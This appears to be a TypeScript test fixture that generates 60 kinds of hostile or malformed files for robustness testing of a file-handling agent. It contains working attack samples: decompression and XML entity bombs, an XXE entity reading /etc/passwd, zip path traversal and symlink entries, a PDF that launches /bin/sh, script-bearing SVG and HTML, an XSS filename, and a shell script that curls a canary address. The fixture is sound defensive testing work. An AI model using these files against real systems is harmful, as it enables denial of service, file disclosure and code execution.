/** Files as no honest program writes them: 60 kinds, each in as many variants as one likes. */
import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { docxOf, paragraph, pdfOf, pdfPages, waveOf, zipOf } from "#agent/testing/files.ts";

type Bytes = Uint8Array<ArrayBuffer>;
type Kind = [what: string, name: (n: number) => string, make: (n: number) => Bytes | Promise<Bytes>];

const megabyte = 1024 * 1024;
const named = (name: string) => (n: number) => `${n}-${name}`;
const text = (value: string): Bytes => new Uint8Array(new TextEncoder().encode(value));
const joined = (...pieces: Uint8Array[]): Bytes => new Uint8Array(Buffer.concat(pieces));
/** Bytes that follow from `n` alone. */
const noise = (length: number, n: number): Bytes => {
  let state = n * 2_654_435_761 + 1;
  return new Uint8Array(length).map(() => (state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) >>> 24);
};
const chat = (n: number) => ({ name: "_chat.txt", content: `[10/03/2026, 08:02:11] Ann: hello ${n}` });
const catalogue = "<< /Type /Catalog /Pages 2 0 R >>";
const note = (n: number) => `% ${n}\n`;
const flat = (width: number, height: number, n: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: n, g: 90, b: 90 } }, limitInputPixels: false });
const png = async (width: number, height: number, n: number): Promise<Bytes> =>
  new Uint8Array(await flat(width, height, n).png({ compressionLevel: 9 }).toBuffer());
const jpeg = async (n: number): Promise<Bytes> => new Uint8Array(await flat(400, 300, n).jpeg().toBuffer());
const encrypted = (n: number) =>
  pdfOf(
    [
      catalogue,
      `<< /Type /Pages /Count 0 /Kids [] /N ${n} >>`,
      `<< /Filter /Standard /V 1 /R 2 /O (${"a".repeat(32)}) /U (${"b".repeat(32)}) /P -1 >>`,
    ],
    "/Encrypt 3 0 R /ID [(aaaaaaaaaaaaaaaa) (aaaaaaaaaaaaaaaa)]",
  );
const macroType = "application/vnd.ms-word.document.macroEnabled.main+xml";
const external = (target: string, n: number) =>
  zipOf([
    ...["[Content_Types].xml", "_rels/.rels"].map((name) => ({ name, content: "<x/>" })),
    {
      name: "word/document.xml",
      content:
        `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "${target}">]><w:document ` +
        `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraph(`&x; ${n}`)}` +
        "</w:body></w:document>",
    },
    {
      name: "word/_rels/document.xml.rels",
      content: `<Relationships><Relationship Id="r1" Type="image" TargetMode="External" Target="${target}"/></Relationships>`,
    },
  ]);
const laughs = (n: number) =>
  `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "${"ha".repeat(50)}">` +
  `${Array.from("bcdefghij", (letter, at) => `<!ENTITY ${letter} "${`&${"abcdefghi"[at]};`.repeat(10)}">`).join("")}]><l>&j; ` +
  `${n}</l>`;
const pixels = (width: number, height: number) => {
  const header = Buffer.from("GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff", "latin1");
  header.writeUInt16LE(width, 6);
  header.writeUInt16LE(height, 8);
  return header;
};
const frame = Buffer.from("!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0", "latin1");
const bmp = (width: number, height: number, n: number) => {
  const header = Buffer.alloc(54, 0);
  header.write("BM");
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  return joined(header, noise(100, n));
};
const oldWord = (n: number) =>
  joined(
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.alloc(504, n),
    Buffer.from("WordDocument", "utf16le"),
    noise(4_000, n),
  );

/** `canary` is an address that nobody may ask for anything. */
export const hostileKinds = (canary: string): Kind[] => [
  ["20 MB", named("big.pdf"), (n) => joined(pdfPages(1), new Uint8Array(20 * megabyte + n))],
  ["empty", named("empty.pdf"), () => new Uint8Array()],
  ["one byte", named("one.pdf"), (n) => new Uint8Array([n])],
  ["PDF with a password", named("secret.pdf"), encrypted],
  ["PDF of 2,000 pages", named("long.pdf"), (n) => pdfPages(2_000 + n)],
  ["PDF of 20,000 pages", named("longer.pdf"), (n) => pdfPages(20_000 + n)],
  [
    "PDF whose tree goes in circles",
    named("circle.pdf"),
    (n) => pdfOf([catalogue, `<< /Type /Pages /Count ${n + 2} /Kids [2 0 R 2 0 R] >>`]),
  ],
  [
    "PDF that unpacks to 200 MB",
    named("bomb.pdf"),
    (n) => pdfPages(1, "", deflateSync(Buffer.alloc(200 * megabyte + n, "(x) Tj "), { level: 1 })),
  ],
  [
    "PDF packed in itself",
    named("twice.pdf"),
    (n) => pdfPages(1, "", deflateSync(deflateSync(Buffer.alloc(50 * megabyte + n)))),
  ],
  [
    "PDF with an array 100,000 deep",
    named("deep.pdf"),
    (n) => pdfOf([catalogue, `<< /Type /Pages /Count ${n} /Kids ${"[".repeat(100_000)}3 0 R${"]".repeat(100_000)} >>`]),
  ],
  ["PDF cut in half", named("half.pdf"), (n) => pdfPages(2 + n).slice(0, 120)],
  ["PDF without an end", named("endless.pdf"), (n) => joined(text("%PDF-1.7\n"), noise(200_000, n))],
  [
    "PDF with JavaScript",
    named("script.pdf"),
    (n) =>
      pdfOf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${canary}/${n}"\\)) >> >>`,
        "<< /Type /Pages /Count 0 /Kids [] >>",
      ]),
  ],
  [
    "PDF that starts a program",
    named("launch.pdf"),
    (n) =>
      pdfOf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) /N ${n} >> >>`,
        "<< /Type /Pages /Count 0 /Kids [] >>",
      ]),
  ],
  [
    "PDF of negative pages",
    named("minus.pdf"),
    (n) => pdfOf([catalogue, `<< /Type /Pages /Count -${n} /Kids [3 0 R] >>`]),
  ],
  [
    "PDF page of a million points",
    named("wide.pdf"),
    (n) =>
      pdfOf([
        catalogue,
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1000000${n} 1000000] >>`,
      ]),
  ],
  [
    "PDF with a lying stream length",
    named("length.pdf"),
    (n) =>
      pdfOf([
        catalogue,
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        `<< /Length 99999999${n} >>\nstream\nx\nendstream`,
      ]),
  ],
  ["picture of 30,000 pixels", named("wide.png"), (n) => png(30_000, 20 + n, n)],
  ["picture of 225 million pixels", named("huge.png"), (n) => png(15_000, 15_000 + n, n)],
  [
    "picture that promises 60,000 × 60,000",
    named("boast.png"),
    async (n) => {
      const bytes = Buffer.from(await png(64, 64, n));
      bytes.writeUInt32BE(60_000, 16);
      bytes.writeUInt32BE(60_000, 20);
      return new Uint8Array(bytes);
    },
  ],
  ["photo cut in half", named("half.jpg"), async (n) => (await jpeg(n)).slice(0, 400 + n)],
  ["photo with noise in it", named("noise.jpg"), async (n) => joined((await jpeg(n)).slice(0, 300), noise(5_000, n))],
  [
    "animation of 10,000 frames",
    named("frames.gif"),
    (n) => joined(pixels(n + 1, 1), ...Array.from({ length: 10_000 }, () => frame), text(";")),
  ],
  ["animation of 60,000 × 60,000", named("canvas.gif"), (n) => joined(pixels(60_000, 60_000 + n), frame, text(";"))],
  ["bitmap of two billion columns", named("columns.bmp"), (n) => bmp(2_147_483_647, n, n)],
  ["bitmap of negative height", named("minus.bmp"), (n) => bmp(100, -2_000_000 - n, n)],
  [
    "TIFF whose directory points at itself",
    named("loop.tiff"),
    (n) => joined(Buffer.from("49492a0008000000", "hex"), Buffer.from("000008000000", "hex"), noise(100, n)),
  ],
  ["WebP of noise", named("noise.webp"), (n) => joined(text("RIFF\u0010\u0000\u0000\u0000WEBPVP8 "), noise(3_000, n))],
  ["picture with a name of a script", () => "<img src=x onerror=alert(1)>.png", (n) => png(8 + n, 8, n)],
  [
    "SVG with a script",
    named("photo.png"),
    (n) => text(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(${n})</script></svg>`),
  ],
  [
    "SVG that fetches",
    named("fetch.svg"),
    (n) => text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="${canary}/${n}"/></svg>`),
  ],
  ["HTML named as text", named("notes.txt"), (n) => text(`<!DOCTYPE html><script>fetch("${canary}/${n}")</script>`)],
  ["XML that multiplies", named("laughs.docx"), (n) => text(laughs(n))],
  ["program renamed to PDF", named("report.pdf"), (n) => joined(text("MZ"), noise(4_000, n))],
  [
    "ELF program renamed to Word",
    named("report.docx"),
    (n) => joined(Buffer.from("7f454c4602010100", "hex"), noise(4_000, n)),
  ],
  ["shell script named as chat", named("chat.txt"), (n) => text(`#!/bin/sh\ncurl ${canary}/${n}\n`)],
  [
    "PDF and archive at once",
    named("both.pdf"),
    (n) => joined(pdfPages(1, `BT /F1 12 Tf 72 700 Td (${n}) Tj ET`), zipOf([{ name: "../x", content: `${n}` }])),
  ],
  ["photo and archive at once", named("both.jpg"), async (n) => joined(await jpeg(n), zipOf([chat(n)]))],
  ["Word file cut in half", named("half.docx"), (n) => docxOf(paragraph(`${n}`.repeat(5_000))).slice(0, 500)],
  [
    "Word file of 1.5 million paragraphs",
    named("many.docx"),
    (n) => docxOf(paragraph("a").repeat(1_500_000) + paragraph(`${n}`)),
  ],
  ["Word file of 100 MB of text", named("much.docx"), (n) => docxOf(paragraph("a".repeat(100 * megabyte) + n))],
  [
    "Word file with 200,000 nested tags",
    named("nested.docx"),
    (n) => docxOf(`${"<w:p>".repeat(200_000 + n)}${"</w:p>".repeat(200_000 + n)}`),
  ],
  ["Word file with macros", named("macro.docx"), (n) => docxOf(paragraph(`hi ${n}`), macroType)],
  ["Word file that names a file of the server", named("local.docx"), (n) => external("file:///etc/passwd", n)],
  ["Word file that names an address", named("address.docx"), (n) => external(`${canary}/${n}`, n)],
  ["old Word file of noise", named("old.doc"), oldWord],
  [
    "archive with names that lead out",
    named("chat.zip"),
    (n) => zipOf([chat(n), { name: "../../../tmp/hard-escaped", content: "x" }]),
  ],
  [
    "archive with a link",
    named("link.zip"),
    (n) => zipOf([chat(n), { name: "photo.jpg", content: "/etc/passwd", mode: 0o120777 }]),
  ],
  [
    "archive within an archive",
    named("nested.zip"),
    (n) => zipOf([chat(n), { name: "more.zip", content: zipOf([chat(n)]) }]),
  ],
  [
    "archive of 10,000 files",
    named("many.zip"),
    (n) => zipOf([chat(n), ...Array.from({ length: 10_000 }, (_, at) => ({ name: `${at}.jpg`, content: "x" }))]),
  ],
  [
    "archive that unpacks to 250 MB",
    named("bomb.zip"),
    (n) =>
      zipOf([
        chat(n),
        ...Array.from({ length: 10 }, (_, at) => ({ name: `${at}.jpg`, content: new Uint8Array(25 * megabyte) })),
      ]),
  ],
  [
    "archive that lies about its sizes",
    named("lies.zip"),
    (n) => zipOf([{ ...chat(n), content: chat(n).content.repeat(1_000_000), claims: 10 }]),
  ],
  [
    "archive cut in half",
    named("half.zip"),
    (n) => zipOf([chat(n), { name: "a.jpg", content: noise(9_000, n) }]).slice(0, 4_000),
  ],
  ["other archives", (n) => `${n}.gz`, (n) => new Uint8Array(gzipSync(noise(n * 1_000, n)))],
  ["recording without sound", named("silent.wav"), (n) => joined(waveOf(0), new Uint8Array(n))],
  ["recording of noise", named("noise.mp3"), (n) => joined(Buffer.from("494433030000000000", "hex"), noise(40_000, n))],
  [
    "recording that lies about its length",
    named("lies.ogg"),
    (n) => joined(text("OggS\u0000\u0002"), noise(10_000, n)),
  ],
  ["table of a million columns", named("wide.csv"), (n) => text(`${n},`.repeat(1_000_000))],
  ["text of one line of 15 MB", named("line.txt"), (n) => text(`${n}`.repeat(15 * megabyte).slice(0, 15 * megabyte))],
  [
    "a name of 500 characters with control and right-to-left characters",
    (n) => `${n}\u0000\r\n\u202e../..\\${"文".repeat(480)}.txt`,
    (n) => text(`Nothing to see here ${n}`),
  ],
  [
    "text of NULs and halves of characters",
    named("nul.txt"),
    (n) => joined(text("Ann: hi\u0000\u0000 "), new Uint8Array([0xed, 0xa0, 0x80, 0xff, n]), text(note(n))),
  ],
  [
    "raw deflate named as PDF",
    named("raw.pdf"),
    (n) => joined(text("%PDF-1.4\n"), new Uint8Array(deflateRawSync(noise(10_000, n)))),
  ],
];
